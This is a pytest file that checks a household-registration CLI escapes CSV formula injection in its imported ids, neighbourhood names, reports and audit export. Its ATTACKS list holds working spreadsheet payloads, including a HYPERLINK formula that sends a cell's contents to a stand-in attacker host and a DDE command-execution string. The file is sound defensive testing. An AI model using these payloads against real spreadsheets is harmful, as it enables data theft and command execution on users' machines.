"""Attack finding 2 of issue 16: CSV formula injection through imported ids, wijk and buurt.

The values of the attack go in through ``kiss import`` and come out of ``kiss report
stacking``, ``kiss report overview --format csv`` (the same text as the KISS-overzicht
download) and the audit export: no cell begins with ``=``, ``+``, ``-``, ``@``, tab or CR.
"""

from __future__ import annotations

import csv
import io

import pytest

from app.cli import main
from households.actor import SYSTEM
from households.audit.log import AuditFilter, events_csv
from households.csvwriter import FORMULA_START, csv_text, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(A1)",
           "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(text: str) -> None:
    dangerous = [c for c in _cells(text) if c[:1] in FORMULA_START and c != safe_cell(c)]
    assert dangerous == []


def _import(tmp_path, kind: str, text: str) -> int:
    path = tmp_path / f"{kind}.csv"
    path.write_text(text, encoding="utf-8")
    return main(["import", kind, str(path)])


@pytest.fixture
def attacked(db_url, tmp_path, capsys):
    """Households whose ids and buurt carry the attack, imported through ``kiss import``."""
    assert main(["init"]) == 0
    rows = "".join(
        f'"{a.replace(chr(34), chr(34) * 2)}",Noord,"{a.replace(chr(34), chr(34) * 2)}"\n'
        for a in ATTACKS[:4]
    )
    assert _import(tmp_path, "huishoudens", "huishouden_id,wijk,buurt\n" + rows) == 0
    capsys.readouterr()
    return tmp_path


def test_stacking_report_neutralises_imported_ids(attacked, capsys):
    assert main(["report", "stacking", "--date", "2026-01-01"]) == 0
    out = capsys.readouterr().out
    _assert_inert(out)
    ids = [row["huishouden_id"] for row in csv.DictReader(io.StringIO(out))]
    assert sorted(ids) == sorted("'" + a for a in ATTACKS[:4])


def test_stacking_report_to_a_file_is_the_same(attacked, capsys):
    out = attacked / "stapeling.csv"
    assert main(["report", "stacking", "--date", "2026-01-01", "--out", str(out)]) == 0
    _assert_inert(out.read_text(encoding="utf-8"))


def test_a_formula_as_wijk_is_refused_at_the_import(db_url, tmp_path, capsys):
    assert main(["init"]) == 0
    capsys.readouterr()
    assert _import(tmp_path, "huishoudens", 'huishouden_id,wijk\nH1,"=HYPERLINK(""x"")"\n') == 2
    assert "onbekende wijk" in capsys.readouterr().err


def test_overview_csv_neutralises_wijk_names_from_the_reference_list(
    db_url, tmp_path, capsys, monkeypatch
):
    # Even a wijk list that a careless beheer filled with formulas cannot inject one.
    monkeypatch.setenv("KISS_WIJKEN", 'Noord,=HYPERLINK("x"),+cmd|x,@SUM(A1)')
    assert main(["init"]) == 0
    rows = "".join(f'H{k},"{w}"\n' for k, w in enumerate(
        ['=HYPERLINK(""x"")', "+cmd|x", "@SUM(A1)"] * 6))  # fmt: skip
    assert _import(tmp_path, "huishoudens", "huishouden_id,wijk\n" + rows) == 0
    capsys.readouterr()
    assert main(["report", "overview", "--date", "2026-01-01", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    _assert_inert(out)
    wijken = {row["wijk"] for row in csv.DictReader(io.StringIO(out))}
    assert {"'+cmd|x", "'@SUM(A1)", '\'=HYPERLINK("x")'} <= wijken
    assert main(["report", "stacking", "--date", "2026-01-01"]) == 0
    _assert_inert(capsys.readouterr().out)


def test_audit_export_goes_through_the_same_writer(session):
    from households import audit

    for a in ATTACKS:
        audit.record(session, SYSTEM, audit.Event.REGELS_WIJZIGEN, "household", 1, doel=a)
    _assert_inert(events_csv(session, SYSTEM, AuditFilter()))


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_attack_cell_is_escaped(attack):
    assert _cells(csv_text(["x"], [[attack]]))[1] == "'" + attack.replace("\r", "\n")


def test_numbers_stay_numbers():
    assert _cells(csv_text(["a", "b", "c"], [["-1.50", -3, "+31"]]))[3:] == ["-1.50", "-3", "+31"]
